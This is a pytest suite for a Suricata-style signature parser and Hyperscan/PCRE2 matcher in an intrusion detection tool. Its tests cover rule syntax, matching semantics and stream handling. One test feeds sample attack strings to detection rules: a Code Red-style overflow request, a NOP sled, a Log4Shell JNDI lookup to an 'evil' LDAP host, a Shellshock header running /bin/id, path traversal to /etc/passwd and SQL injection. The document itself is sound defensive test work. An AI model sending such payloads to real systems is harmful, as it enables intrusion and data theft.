"""The payload stage's rules: the Suricata-syntax parser (vhostni/signatures/rules.py) and the
Hyperscan + PCRE2 matcher (csrc/sig.c) through its facade (vhostni/signatures/engine.py)."""
import os
import random
import struct

import pytest
from hypothesis import given, settings, strategies as st

from vhostni._fastpath import lib
from vhostni.signatures import rules as R
from vhostni.signatures.engine import SigError, SignatureDB
from vhostni.signatures.rules import (Content, IsDataAt, Pcre, RuleError, Vars, parse_rule,
                                      parse_rules)

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
WEB_RULES = os.path.join(ROOT, "examples", "signatures", "web.rules")
SV_RULES = os.path.join(HERE, "data", "signatures", "suricata-verify-sample.rules")
V = Vars(home=["10.0.0.2/32", "fd00::2/128"])


def rule(opts: str, head: str = "alert tcp any any -> any any") -> R.Rule:
    return parse_rule(f"{head} ({opts} sid:1;)", V)


def ruleset(text: str) -> R.RuleSet:
    rs = parse_rules(text, V, "t.rules")
    assert not rs.problems, [str(p) for p in rs.problems]
    return rs


def block_sids(text: str, data: bytes) -> set:
    rs = ruleset(text)
    with SignatureDB(rs.rules, "packet") as db:
        assert not db.problems, db.problems
        return {m.rule.sid for m in db.scan(data)}


def stream_sids(text: str, data: bytes, chunks=None, lookback=8192) -> set:
    rs = ruleset(text)
    with SignatureDB(rs.rules, "stream", lookback=lookback) as db:
        assert not db.problems, db.problems
        return _feed(db, data, chunks)


def _feed(db, data, chunks):
    s = db.open_stream()
    got = set()
    pos = 0
    for n in chunks or [len(data)]:
        got |= {m.rule.sid for m in s.scan(data[pos:pos + n])}
        pos += n
    assert pos >= len(data)
    got |= {m.rule.sid for m in s.close()}
    return got


def ones(data: bytes) -> list:
    return [1] * len(data)


def both(text: str, data: bytes) -> set:
    """Block over the whole buffer, stream in one chunk and in 1-byte chunks: all must agree."""
    b = block_sids(text, data)
    assert stream_sids(text, data) == b
    assert stream_sids(text, data, ones(data)) == b
    return b


# ---------------------------------------------------------------- parser

def test_constants_agree_with_the_c_header():
    assert (R.K_CONTENT, R.K_PCRE, R.K_ISDATAAT) == (lib.VN_SIG_K_CONTENT, lib.VN_SIG_K_PCRE,
                                                      lib.VN_SIG_K_ISDATAAT)
    assert (R.I_NEGATED, R.I_NOCASE, R.I_RELATIVE, R.I_OFFSET, R.I_DEPTH, R.I_DISTANCE, R.I_WITHIN) == (
        lib.VN_SIG_I_NEGATED, lib.VN_SIG_I_NOCASE, lib.VN_SIG_I_RELATIVE, lib.VN_SIG_I_OFFSET,
        lib.VN_SIG_I_DEPTH, lib.VN_SIG_I_DISTANCE, lib.VN_SIG_I_WITHIN)
    assert (R.MAX_ITEMS, R.MAX_PATTERN, R.MAX_RULES, R.NO_ANCHOR) == (
        lib.VN_SIG_MAX_ITEMS, lib.VN_SIG_MAX_PATTERN, lib.VN_SIG_MAX_RULES, lib.VN_SIG_NO_ANCHOR)
    assert (R.R_DSIZE, R.R_DSIZE_NOT) == (lib.VN_SIG_R_DSIZE, lib.VN_SIG_R_DSIZE_NOT)


def test_every_keyword_lands_in_the_ir():
    r = parse_rule(
        'drop tcp $EXTERNAL_NET any -> $HOME_NET [80,8080] (msg:"a \\"quoted\\" \\; msg"; '
        'flow:established,to_server; content:"GET|20|"; depth:4; offset:0; '
        'content:"x\\:y"; nocase; distance:2; within:10; fast_pattern:1,2; '
        'content:!"bad"; distance:0; pcre:"/a(b)\\1/smiR"; isdataat:!3,relative; '
        'classtype:web-application-attack; priority:2; metadata:former_category WEB, tag x; '
        'reference:cve,2001-0500; threshold: type limit, track by_src, count 1, seconds 60; '
        'sid:42; rev:7; gid:1;)', V, "f.rules", 9)
    assert (r.action, r.proto, r.sid, r.rev, r.gid, r.priority) == ("drop", "tcp", 42, 7, 1, 2)
    assert r.msg == 'a "quoted" ; msg'
    assert r.classtype == "web-application-attack"
    assert r.metadata == ["former_category WEB", "tag x"]
    assert r.flow == {"established", "to_server"} and r.direction == "to_server"
    c0, c1, c2, p, i = r.items
    assert c0 == Content(b"GET ", depth=4, offset=0)
    assert c1 == Content(b"x:y", nocase=True, distance=2, within=10, fast_pattern=True, fp_chop=(1, 2))
    assert c2 == Content(b"bad", negated=True, distance=0)
    assert p == Pcre(rb"a(b)\1", "smiR") and p.relative
    assert i == IsDataAt(3, relative=True, negated=True)
    assert r.threshold == {"type": "limit", "track": "by_src", "count": 1, "seconds": 60}
    assert r.anchor() == (1, 1, 2)          # fast_pattern:1,2 of "x:y"
    assert r.mode == "stream" and r.where() == "f.rules:9"
    assert "10.0.0.2" in r.dst and "10.0.0.3" not in r.dst
    assert "10.0.0.3" in r.src and "10.0.0.2" not in r.src          # $EXTERNAL_NET = !$HOME_NET
    assert 8080 in r.dport and 81 not in r.dport


def test_longest_positive_content_is_the_anchor_and_dsize_makes_a_packet_rule():
    r = rule('content:"ab"; content:!"longest-negated"; content:"abcd";')
    assert r.anchor() == (2, 0, 4)
    assert rule('content:"abc"; dsize:>3;').mode == "packet"
    assert rule('content:!"abc";').mode == "packet"                # no positive anchor
    assert rule('pcre:"/x+/";').anchor() == (0, 0, 0)
    assert rule('content:"abc";', "alert udp any any -> any any").mode == "packet"


@pytest.mark.parametrize("text,lo,hi,neg", [
    ("10", 10, 10, False), ("<10", 0, 9, False), (">10", 11, 65535, False), ("<=10", 0, 10, False),
    (">=10", 10, 65535, False), ("!10", 10, 10, True), ("5<>10", 6, 9, False)])
def test_dsize_forms(text, lo, hi, neg):
    assert rule(f"dsize:{text};").dsize == (lo, hi, neg)


def test_content_escapes_and_hex():
    assert rule('content:"|41 42|C|0d0a|\\"\\;\\\\\\:";').items[0].pattern == b'ABC\r\n";\\:'
    for bad in ('content:"a\\x";', 'content:"|4|";', 'content:"|41";', 'content:"a"b";', 'content:"";',
                'content:abc;'):
        with pytest.raises(RuleError):
            rule(bad)


def test_addresses_ports_negation_and_variables():
    v = Vars({"WEB": "[10.1.0.0/16,!10.1.2.0/24]", "WEBPORTS": "[80,443,8000:8100,!8080]",
              "LOOP": "$LOOP"}, home=["192.0.2.1"])
    r = parse_rule("alert tcp [$WEB,1.2.3.4-1.2.3.6] any -> !$HOME_NET $WEBPORTS (sid:1;)", v)
    assert "10.1.3.1" in r.src and "10.1.2.9" not in r.src and "1.2.3.5" in r.src
    assert "1.2.3.7" not in r.src and "fd00::1" not in r.src
    assert "192.0.2.1" not in r.dst and "192.0.2.2" in r.dst and "::1" in r.dst
    assert 8000 in r.dport and 8080 not in r.dport and 443 in r.dport and 81 not in r.dport
    assert r.matches_header("tcp", "10.1.3.1", 5, "8.8.8.8", 443)
    assert not r.matches_header("tcp", "8.8.8.8", 443, "10.1.3.1", 5)   # -> is one way
    r2 = parse_rule("alert tcp 10.0.0.1 any <> 10.0.0.2 80 (sid:1;)", v)
    assert r2.matches_header("tcp", "10.0.0.2", 80, "10.0.0.1", 999)   # <> both ways
    assert not r2.matches_header("udp", "10.0.0.1", 9, "10.0.0.2", 80)
    p = parse_rule("alert tcp any [1024:,!2000] -> any :1023 (sid:1;)", v)
    assert 1024 in p.sport and 2000 not in p.sport and 1023 not in p.sport and 0 in p.dport
    with pytest.raises(RuleError, match="undefined variable"):
        parse_rule("alert tcp $NOPE any -> any any (sid:1;)", v)
    with pytest.raises(RuleError, match="too deep"):
        parse_rule("alert tcp $LOOP any -> any any (sid:1;)", v)
    with pytest.raises(RuleError, match="empty"):
        parse_rule("alert tcp [1.2.3.4,!1.2.3.4] any -> any any (sid:1;)", v)
    for bad in ("alert tcp 1.2.3 any -> any any (sid:1;)", "alert tcp any 70000 -> any any (sid:1;)",
                "alert tcp any 90:80 -> any any (sid:1;)", "alert tcp any any <- any any (sid:1;)",
                "alert tcp [1.2.3.4 any -> any any (sid:1;)"):
        with pytest.raises(RuleError):
            parse_rule(bad, v)


def test_home_net_defaults_to_private_nets_without_ni_addresses():
    r = parse_rule("alert tcp any any -> $HOME_NET any (sid:1;)", Vars())
    assert "192.168.1.1" in r.dst and "8.8.8.8" not in r.dst


@pytest.mark.parametrize("opts,reason", [
    ('http.response_body; content:"a";', "response bodies"),
    ('file_data; content:"a";', "response bodies"),
    ('pcre:"/a/Q";', "does not have"),
    ('content:"a"; http_uri; content:"b";', "payload contents"),
    ('http.uri; content:"a"; http.stat_code; content:"200";', "request and response"),
    ('flow:to_client; http.uri; content:"a";', "never match"),
    ('http.uri; content:"a"; http_uri;', "outside a sticky buffer"),
    ('bsize:3;', "needs a sticky buffer"),
    ('dns.query; content:"a";', "does not have"),
    ('pcre:"/a/q";', "unknown flag"),
    ('flowbits:set,x;', "per-flow state"),
    ('frobnicate:1;', "unknown keyword"),
    ('content:"a"; endswith;', "end of the buffer"),
    ('nocase; content:"a";', "must follow a content"),
    ('content:"a"; offset:1; distance:1;', "cannot mix"),
    ('content:"abc"; depth:2;', "shorter than the content"),
    ('content:"abc"; fast_pattern:only; offset:3;', "fast_pattern:only"),
    ('content:"abc"; fast_pattern:2,5;', "within the content"),
    ('content:!"a"; fast_pattern;', "negated"),
    ('dsize:5; content:"abcdef";', "never match"),
    ('msg:"a"; msg:"b";', "twice"),
    ('flow:to_server,to_client;', "both directions"),
    ('content:"a" sid:2;', "expected a quoted string"),
    ('isdataat:1,sideways;', "unknown option"),
])
def test_unsupported_or_wrong_rules_say_why(opts, reason):
    with pytest.raises(RuleError, match=reason):
        rule(opts)


def test_problems_carry_file_and_line_of_the_rule_start():
    text = ("# comment\n\n"
            'alert tcp any any -> any any (msg:"ok"; content:"a"; sid:1;)\n'
            'alert tcp any any -> any any (msg:"multi"; \\\n'
            '    file_data; content:"a"; \\\n'
            '    sid:2;)\n'
            'alert dns any any -> any any (sid:3;)\n'
            'alert tcp any any -> any any (content:"b"; sid:1;)\n'
            "garbage\n")
    rs = parse_rules(text, V, "x.rules")
    assert [r.sid for r in rs.rules] == [1]
    assert [(p.line, p.sid) for p in rs.problems] == [(4, 2), (7, 3), (8, 1), (9, None)]
    assert str(rs.problems[0]).startswith("x.rules:4: sid 2: file_data")
    assert "duplicate sid (first at x.rules:3)" in rs.problems[2].reason


def test_real_suricata_verify_rules():
    """A sample of OISF suricata-verify's rule files (MIT): what we accept, and why not the rest."""
    with open(SV_RULES) as f:
        rs = parse_rules(f.read(), V, "sv.rules")
    assert [r.sid for r in rs.rules] == [102, 103, 201, 202, 203, 301, 302, 303, 304, 601, 801, 802, 803,
                                         1001, 2]
    why = {p.sid: p.reason for p in rs.problems}
    assert "need a positive content" in why[101]
    assert "application-layer" in why[401] and "header filter" in why[701]
    assert "payload contents" in why[602] and "payload contents" in why[603]
    assert "never match" in why[6666664]          # the file's own "INVALID combination" test
    assert "TCP flags" in why[1]
    by = {r.sid: r for r in rs.rules}
    assert by[202].mode == "packet" and by[102].mode == "stream" and by[301].mode == "packet"
    assert by[303].items[0] == Content(b"abc", offset=0, depth=3)   # startswith
    # uricontent, the http_uri modifier and the http.uri sticky buffer are one thing
    assert by[801].items == by[802].items == by[803].items == [Content(b"abc", buf="http.uri")]
    assert by[801].http_groups == by[803].http_groups == {0: {"http.uri"}} and by[801].mode == "http"
    assert by[601].http_groups == {0: {"http.method"}, 2: {"http.stat_code"}}    # any request, any response
    # the "AllWorkAndNoPlay" test of that repository, matched as Suricata does
    db = SignatureDB([by[2]], "packet")
    assert [m.rule.sid for m in db.scan(b"AllWorkAndNoPlayMakesWill_DullBoy")] == [2]
    assert db.scan(b"AllWorkAndNoPlayMakesWill__DullBoy") == []        # distance:1 within:7


def test_example_web_rules_all_compile():
    with open(WEB_RULES) as f:
        rs = parse_rules(f.read(), V, WEB_RULES)
    assert not rs.problems and rs.accepted == 12
    assert [r.sid for r in rs.rules if r.mode == "http"] == [1000011, 1000012]
    for (mode, _, _), group in rs.groups().items():
        if mode == "http":
            continue                  # matched per HTTP buffer: the stage below builds them
        with SignatureDB(group, mode) as db:
            assert not db.problems
    from vhostni.signatures.stage import Stage
    assert not Stage(rs.rules).problems


# ---------------------------------------------------------------- matcher

def test_offset_and_depth_with_near_misses():
    t = 'alert tcp any any -> any any (content:"abc"; offset:2; depth:5; sid:1;)'
    assert both(t, b"xxabcxx") == {1}
    assert both(t, b"xxxxabc") == {1}          # ends at 7 = offset + depth
    assert both(t, b"xxxxxabc") == set()       # one byte too far
    assert both(t, b"xabcxxx") == set()        # starts before offset


def test_distance_within_chains_and_backtracking():
    t = ('alert tcp any any -> any any (content:"A"; content:"BB"; distance:2; within:4; '
         'content:"C"; distance:0; within:1; sid:1;)')
    assert both(t, b"A..BBC") == {1}
    assert both(t, b"A.BBC") == set()          # distance 2 not met
    assert both(t, b"A....BBC") == {1}         # within counts from prev end + distance (Suricata)
    assert both(t, b"A.....BBC") == set()      # within exceeded
    assert both(t, b"A..BB.C") == set()        # C not right after
    # the first A fails, a later A succeeds: Suricata backtracks over earlier occurrences
    assert both(t, b"A..BBxA..BBC") == {1}
    neg = 'alert tcp any any -> any any (content:"XYZ"; content:"Q"; distance:-5; within:2; sid:2;)'
    # negative distance: Q in [end of XYZ - 5, end of XYZ - 3)
    assert both(neg, b"..Q.XYZ") == {2} and both(neg, b"...QXYZ") == {2}
    assert both(neg, b".Q..XYZ") == set() and both(neg, b"....XYZQ") == set()


def test_nocase_and_hex():
    t = 'alert tcp any any -> any any (content:"|90 90|jNdI|3a|"; nocase; sid:1;)'
    assert both(t, b"..\x90\x90JNDI:..") == {1}
    assert both(t, b"..\x90\x90jndi;..") == set()
    cs = 'alert tcp any any -> any any (content:"jndi"; sid:2;)'
    assert both(cs, b"JNDI") == set() and both(cs, b"jndi") == {2}


def test_negated_contents():
    t = ('alert tcp any any -> any any (content:"GET"; content:!"Host"; distance:0; within:20; '
         'sid:1;)')
    assert both(t, b"GET / HTTP/1.0\r\n\r\n") == {1}
    assert both(t, b"GET / HTTP/1.0\r\nHost: x\r\n") == set()
    assert both(t, b"GET / HTTP/1.0\r\n" + b"x" * 20 + b"Host: x") == {1}   # outside the window
    whole = 'alert tcp any any -> any any (content:"ping"; content:!"pong"; sid:2;)'
    assert both(whole, b"pong ping") == set() and both(whole, b"ping") == {2}


def test_pcre_backreference_confirmed_by_pcre2():
    t = r'alert tcp any any -> any any (pcre:"/<(\w+)>[^<]*<\/\1>/"; sid:1;)'
    assert both(t, b"x <b>bold</b> y") == {1}
    assert both(t, b"x <b>bold</i> y") == set()       # Hyperscan's prefilter passes it; PCRE2 not
    rel = r'alert tcp any any -> any any (content:"user="; pcre:"/^([a-z])\1{3}/R"; sid:2;)'
    assert both(rel, b"user=aaaa") == {2}
    assert both(rel, b"user=aaab") == set()
    assert both(rel, b"user=xaaaa") == set()          # ^ with R: right after the content
    flags = r'alert tcp any any -> any any (pcre:"/union\s+select/i"; sid:3;)'
    assert both(flags, b"1 UNION  SeLeCt *") == {3} and both(flags, b"unionselect") == set()
    negp = r'alert tcp any any -> any any (content:"id="; pcre:!"/id=\d+/"; sid:4;)'
    assert both(negp, b"id=abc") == {4} and both(negp, b"id=123") == set()


def test_isdataat_and_dsize():
    t = 'alert tcp any any -> any any (content:"LEN"; isdataat:10,relative; sid:1;)'
    assert both(t, b"LEN" + b"x" * 10) == {1}          # relative: prev + N <= length (Suricata)
    assert both(t, b"LEN" + b"x" * 9) == set()
    a = 'alert tcp any any -> any any (content:"LEN"; isdataat:10; sid:5;)'
    assert both(a, b"LEN" + b"x" * 8) == {5}           # absolute: a byte at offset N
    assert both(a, b"LEN" + b"x" * 7) == set()
    n = 'alert tcp any any -> any any (content:"END"; isdataat:!1,relative; sid:2;)'
    assert both(n, b"xxEND") == {2} and both(n, b"xxENDx") == set()
    d = 'alert udp any any -> any any (content:"|04|"; depth:1; dsize:>3; sid:3;)'
    assert block_sids(d, b"\x04ab") == set() and block_sids(d, b"\x04abc") == {3}
    dn = 'alert udp any any -> any any (dsize:!4; sid:4;)'
    assert block_sids(dn, b"abcd") == set() and block_sids(dn, b"abc") == {4}


def test_header_only_rules_match_every_packet():
    assert block_sids('alert tcp any any -> any 23 (msg:"telnet"; sid:5;)', b"") == {5}


def test_web_rules_catch_attacks_split_into_one_byte_segments():
    with open(WEB_RULES) as f:
        rs = parse_rules(f.read(), V, WEB_RULES)
    to_server = [r for r in rs.rules if r.mode == "stream" and r.direction == "to_server"]
    db = SignatureDB(to_server, "stream")
    codered = (b"GET /default.ida?" + b"N" * 224 + b"%u9090%u6858%ucbd3%u7801%u9090%u6858 HTTP/1.0\r\n\r\n")
    attacks = {
        1000001: codered,
        1000002: b"GET /default.ida?" + b"X" * 224 + b"%u9090 HTTP/1.0\r\n\r\n",
        1000003: b"POST /x HTTP/1.0\r\n\r\n" + b"\x90" * 64 + b"\xcc",
        1000004: b"GET / HTTP/1.1\r\nUser-Agent: ${JNDI:ldap://evil/a}\r\n\r\n",
        1000005: b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n",
        1000006: b"GET /a/../../etc/passwd HTTP/1.0\r\n\r\n",
        1000007: b"GET /?id=1%20UNION   ALL SELECT pw HTTP/1.0\r\n\r\n".replace(b"%20", b" "),
        1000008: (b"POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=abcdefgh12\r\n\r\n"
                  b"--abcdefgh12--abcdefgh12"),
    }
    for sid, data in attacks.items():
        benign_prefix = b"GET /index.html HTTP/1.1\r\nHost: a\r\n\r\n" * 3     # pipelined
        for chunks in (None, ones(benign_prefix + data)):
            assert sid in _feed(db, benign_prefix + data, chunks), (sid, chunks is None)
    near_misses = [
        b"GET /default.ida?" + b"N" * 10 + b"%u9090",                  # too few N
        b"GET /default.idb?" + b"N" * 224 + b"%u9090",
        b"POST /default.ida?" + b"N" * 224 + b"%u9090",                # not GET at the start
        b"\x90" * 23 + b"x" + b"\x90" * 23,                            # sled one byte short
        b"${jndi:nothing}", b"() { :}\r\n" + b"x" * 70 + b";",      # ; beyond within 64
        b"../etc/shadow", b"unionselect, union-select", b"boundary=abcdefgh12\r\n--abcdefgh13--abcdefgh12",
        b"GET /index.html HTTP/1.1\r\nHost: a\r\n\r\n",
    ]
    for data in near_misses:
        assert _feed(db, data, None) == set(), data
        assert _feed(db, data, ones(data)) == set(), data


def test_negation_waits_for_its_window_in_stream_mode():
    """content:!"pong" within 10 bytes after ping: a stream that has only "ping" so far must not
    match yet, and must not match at all when pong arrives in the next chunk."""
    t = 'alert tcp any any -> any any (content:"ping"; content:!"pong"; distance:0; within:10; sid:1;)'
    rs = ruleset(t)
    db = SignatureDB(rs.rules, "stream")
    s = db.open_stream()
    assert s.scan(b"..ping") == []                    # undecided: the window is not complete
    assert s.scan(b"..po") == []
    assert s.scan(b"ng....") == []
    assert s.close() == []
    s = db.open_stream()
    assert s.scan(b"..ping") == []
    got = s.scan(b"..........")                      # the window is complete: decided now
    assert [(m.rule.sid, m.offset) for m in got] == [(1, 6)]
    assert s.close() == []                           # reported once per stream


def test_match_offset_is_where_the_match_completes():
    t = 'alert tcp any any -> any any (content:"abc"; content:"xyz"; distance:0; sid:1;)'
    db = SignatureDB(ruleset(t).rules, "stream")
    s = db.open_stream()
    assert s.scan(b"--abc--") == []
    assert [(m.rule.sid, m.offset) for m in s.scan(b"--xyz--")] == [(1, 12)]


def test_lookback_bounds_what_a_stream_match_may_span():
    """The documented limit: a match reading more than `lookback` bytes before the end of the
    chunk that completes it is not found in stream mode (block mode finds it)."""
    t = 'alert tcp any any -> any any (content:"HEAD"; content:"TAIL"; distance:0; sid:1;)'
    data = b"HEAD" + b"." * 100 + b"TAIL"
    assert block_sids(t, data) == {1}
    assert stream_sids(t, data, [4, 100, 4], lookback=200) == {1}
    assert stream_sids(t, data, [4, 100, 4], lookback=64) == set()


def test_stream_memcap_refuses_streams():
    rs = ruleset('alert tcp any any -> any any (content:"abc"; sid:1;)')
    db = SignatureDB(rs.rules, "stream", lookback=4096, stream_memcap=10000)
    s1 = db.open_stream()
    s2 = db.open_stream()
    with pytest.raises(SigError, match="memcap"):
        db.open_stream()
    assert db.stats()["streams_refused"] == 1 and db.stats()["streams_open"] == 2
    s1.close()
    s3 = db.open_stream()            # the memory came back
    s2.close(), s3.close()
    assert db.stats()["stream_mem"] == 0


def test_flooding_the_pending_list_is_flagged_not_passed():
    """More undecided candidates than a stream may keep waiting: the overflow is reported
    flagged LIMIT (a flood of partial hits must not push a rule out unseen)."""
    n = lib.VN_SIG_PENDING_MAX + 8
    text = "\n".join(f'alert tcp any any -> any any (content:"k{i:04d}"; content:"never"; distance:0; '
                     f'sid:{i + 1};)' for i in range(n))
    data = b"".join(b"k%04d " % i for i in range(n))
    db = SignatureDB(ruleset(text).rules, "stream")
    s = db.open_stream()
    got = s.scan(data)
    assert len(got) == 8 and all(m.limit for m in got)
    assert db.stats()["pending_evicted"] == 8
    rest = s.close()                                  # the waiting ones, decided at the end: no match
    assert rest == []
    neg = "\n".join(f'alert tcp any any -> any any (content:"k{i:04d}"; content:!"never"; sid:{i + 1};)'
                    for i in range(n))
    db = SignatureDB(ruleset(neg).rules, "stream")
    assert _feed(db, data, None) == set(range(1, n + 1))


def test_rules_pcre2_rejects_are_reported_not_fatal():
    text = ('alert tcp any any -> any any (pcre:"/(?P<a>x)(?P=nope)/"; sid:1;)\n'
            'alert tcp any any -> any any (content:"ok"; sid:2;)\n')
    rs = parse_rules(text, V, "p.rules")
    db = SignatureDB(rs.rules, "stream")
    assert [(p.file, p.line, p.sid) for p in db.problems] == [("p.rules", 1, 1)]
    assert "PCRE2" in db.problems[0].reason
    assert _feed(db, b"ok", None) == {2}


def test_hostile_blobs_are_refused_not_crashed():
    rs = ruleset('alert tcp any any -> any any (content:"abc"; offset:1; depth:5; '
                 'pcre:"/a+/R"; isdataat:2,relative; sid:1;)')
    good = R.encode(rs.rules)
    from vhostni._fastpath import ffi
    rc = ffi.new("int *")
    for cut in range(len(good)):
        assert lib.vn_sig_db_build(good[:cut], cut, 0, 64, 1 << 20, ffi.NULL, 0, ffi.NULL, rc) == ffi.NULL
        assert rc[0] == lib.VN_SIG_EINVAL
    rng = random.Random(7)
    for _ in range(3000):
        b = bytearray(good)
        for _ in range(rng.randint(1, 4)):
            b[rng.randrange(len(b))] = rng.randrange(256)
        db = lib.vn_sig_db_build(bytes(b), len(b), rng.randint(0, 1), 64, 1 << 20, ffi.NULL, 0,
                                 ffi.NULL, rc)
        if db != ffi.NULL:
            out = ffi.new("struct vn_sig_match[4]")
            if lib.vn_sig_scan_block(db, b"xabcaaaa", 8, out, 4) == lib.VN_SIG_EINVAL:
                st = lib.vn_sig_stream_open(db, rc)
                assert st != ffi.NULL
                lib.vn_sig_stream_scan(db, st, b"xabcaaaa", 8, out, 4)
                lib.vn_sig_stream_close(db, st, out, 4)
            lib.vn_sig_db_free(db)
    # a wrong magic, a huge rule count, a lookback over the cap
    for blob, lb in ((b"XXXX" + good[4:], 64), (b"VSG1" + struct.pack("<I", 1 << 30), 64), (good, 1 << 30)):
        assert lib.vn_sig_db_build(blob, len(blob), 1, lb, 1 << 20, ffi.NULL, 0, ffi.NULL, rc) == ffi.NULL


def test_output_array_overflow_is_counted_not_overrun():
    text = "\n".join(f'alert udp any any -> any any (content:"z"; sid:{i};)' for i in range(1, 6))
    db = SignatureDB(ruleset(text).rules, "packet")
    from vhostni._fastpath import ffi
    out = ffi.new("struct vn_sig_match[2]")
    assert lib.vn_sig_scan_block(db._db, b"z", 1, out, 2) == 2
    assert db.stats()["matches_lost"] == 3


# ---------------------------------------------------------------- stream == block, any chunking

ALPHA = b"abcx"
_word = st.binary(min_size=1, max_size=3).map(lambda b: bytes(ALPHA[c % 4] for c in b))


@st.composite
def _rule_opts(draw):
    parts = []
    for i in range(draw(st.integers(1, 3))):
        w = draw(_word)
        neg = i > 0 and draw(st.booleans()) and draw(st.booleans())
        parts.append(f'content:{"!" if neg else ""}"{w.decode()}";')
        if i == 0 and not neg and draw(st.booleans()):
            off = draw(st.integers(0, len(w) - 1))
            parts.append(f"fast_pattern:{off},{draw(st.integers(1, len(w) - off))};")
        if draw(st.booleans()):
            parts.append("nocase;")
        kind = draw(st.sampled_from(["none", "abs", "rel"]))
        if kind == "abs" or (i == 0 and kind == "rel"):
            parts.append(f"offset:{draw(st.integers(0, 6))};")
            if draw(st.booleans()):
                parts.append(f"depth:{draw(st.integers(len(w), 12))};")
        elif kind == "rel":
            parts.append(f"distance:{draw(st.integers(-3, 4))};")
            if draw(st.booleans()):
                parts.append(f"within:{draw(st.integers(len(w), 10))};")
    if draw(st.booleans()):
        pat = draw(st.sampled_from(["a[bc]", "(a|x)b?c", "(.)x\\1", "^a", "c$"]))
        flags = draw(st.sampled_from(["", "i", "R", "s"]))
        parts.append(f'pcre:"/{pat}/{flags}";')
    if draw(st.booleans()):
        parts.append(f"isdataat:{'!' if draw(st.booleans()) else ''}{draw(st.integers(0, 4))},relative;")
    return " ".join(parts)


@settings(max_examples=300, deadline=None)
@given(opts=st.lists(_rule_opts(), min_size=1, max_size=4),
       data=st.binary(max_size=40).map(lambda b: bytes(ALPHA[c % 4] for c in b)),
       cuts=st.lists(st.integers(1, 7), max_size=40))
def test_stream_mode_over_any_chunking_equals_block_mode(opts, data, cuts):
    text = "\n".join(f"alert tcp any any -> any any ({o} sid:{i + 1};)" for i, o in enumerate(opts))
    rs = parse_rules(text, V, "h.rules")
    rules = [r for r in rs.rules if r.mode == "stream"]
    if not rules:
        return
    with SignatureDB(rules, "packet") as b:
        want = {m.rule.sid for m in b.scan(data)}
    chunks, left = [], len(data)
    for c in cuts:
        if left <= 0:
            break
        chunks.append(min(c, left))
        left -= c
    if left > 0:
        chunks.append(left)
    with SignatureDB(rules, "stream") as s:
        assert _feed(s, data, chunks) == want


# ---------------------------------------------------------------- policy and CLI

def _policy(tmp_path, rules_text: str, extra: str = "", ni: str = 'addresses = ["10.9.0.1/32"]'):
    from vhostni.policy import load_policy
    (tmp_path / "a.rules").write_text(rules_text)
    (tmp_path / "p.toml").write_text(f'[ni]\n{ni}\n[signatures]\nrules = ["a.rules"]\n{extra}\n')
    return load_policy(str(tmp_path / "p.toml"))


GOOD = 'drop tcp any any -> $HOME_NET $WEB (msg:"x"; content:"evil"; sid:1;)\n'
BAD = 'alert tcp any any -> any any (file_data; content:"x"; sid:2;)\n'


def test_policy_signatures_section(tmp_path):
    p = _policy(tmp_path, GOOD, 'vars = { WEB = "[80,8080]" }')
    (r,) = p.signatures.ruleset.rules
    assert "10.9.0.1" in r.dst and "10.9.0.2" not in r.dst        # $HOME_NET from [ni] addresses
    assert 8080 in r.dport and 81 not in r.dport
    assert p.signatures.on_unsupported == "fail" and p.signatures.lookback == 8192


def test_policy_unsupported_rules_fail_or_skip(tmp_path):
    from vhostni.policy import PolicyError
    with pytest.raises(PolicyError, match=r"1 rule cannot be enforced exactly.*a.rules:2: sid 2: file_data"):
        _policy(tmp_path, GOOD + BAD, 'vars = { WEB = "80" }')
    p = _policy(tmp_path, GOOD + BAD, 'on_unsupported = "skip"\nvars = { WEB = "80" }')
    assert [r.sid for r in p.signatures.ruleset.rules] == [1]
    assert [(q.line, q.sid) for q in p.signatures.problems] == [(2, 2)]
    # a pattern only PCRE2 rejects is found at load time too
    with pytest.raises(PolicyError, match="PCRE2"):
        _policy(tmp_path, 'alert tcp any any -> any any (pcre:"/(?P=nope)/"; sid:3;)\n')


@pytest.mark.parametrize("extra,where", [
    ('on_unsupported = "maybe"', "signatures.on_unsupported"),
    ("lookback = -1", "signatures.lookback"),
    ("stream_memcap = 5", "signatures.stream_memcap"),
    ("frob = 1", "signatures.frob"),
    ('vars = { "bad name" = "1" }', "signatures.vars"),
])
def test_policy_signatures_validation(tmp_path, extra, where):
    from vhostni.policy import PolicyError
    with pytest.raises(PolicyError) as e:
        _policy(tmp_path, GOOD, extra)
    assert e.value.where == where


def test_policy_missing_rule_file_always_fails(tmp_path):
    from vhostni.policy import PolicyError, load_policy
    (tmp_path / "p.toml").write_text('[signatures]\nrules = ["nope.rules"]\non_unsupported = "skip"\n')
    with pytest.raises(PolicyError, match="cannot read"):
        load_policy(str(tmp_path / "p.toml"))


def test_example_policy_loads():
    from vhostni.policy import load_policy
    p = load_policy(os.path.join(ROOT, "examples", "signatures.toml"))
    assert p.signatures.ruleset.accepted == 12 and not p.signatures.problems


def test_cli_rules_check(tmp_path, capsys):
    from vhostni.cli import main
    f = tmp_path / "a.rules"
    f.write_text(GOOD + BAD)
    assert main(["rules", "check", str(f), "--var", "WEB=80"]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out == [f"{f}:2: sid 2: file_data: HTTP response bodies are not inspected (yet)",
                   "1 rule accepted (1 stream), 1 skipped"]
    assert main(["rules", "check", WEB_RULES, "--home-net", "10.0.0.2"]) == 0
    assert capsys.readouterr().out.strip() == "12 rules accepted (2 http, 1 packet, 9 stream), 0 skipped"
    assert main(["rules", "check", str(tmp_path / "missing.rules")]) == 2
    assert main(["rules", "check", str(f), "--vars", "$WEB=[80,81]"]) == 1
    assert "1 rule accepted" in capsys.readouterr().out
    assert main(["rules", "check", str(f)]) == 1          # $WEB undefined: a problem at line 1
    assert "a.rules:1: sid 1: $WEB: undefined variable" in capsys.readouterr().out


def test_costly_confirmations_are_flagged_not_passed():
    """Padding a stream with thousands of a rule's first content (or feeding a pcre that
    backtracks catastrophically) must not be a way past the rule: the match is reported with
    the limit flag, for the caller's exception policy."""
    t = 'alert tcp any any -> any any (content:"a"; content:"b"; distance:1; within:1; sid:1;)'
    db = SignatureDB(ruleset(t).rules, "packet")
    (m,) = db.scan(b"a" * 30000 + b"a.b")
    assert m.rule.sid == 1 and m.limit and db.stats()["steps_exceeded"] == 1
    (m,) = db.scan(b"a" * 300 + b"a.b")
    assert not m.limit                                   # within the limit: a proven match
    assert db.scan(b"a" * 300) == []                     # and a proven miss
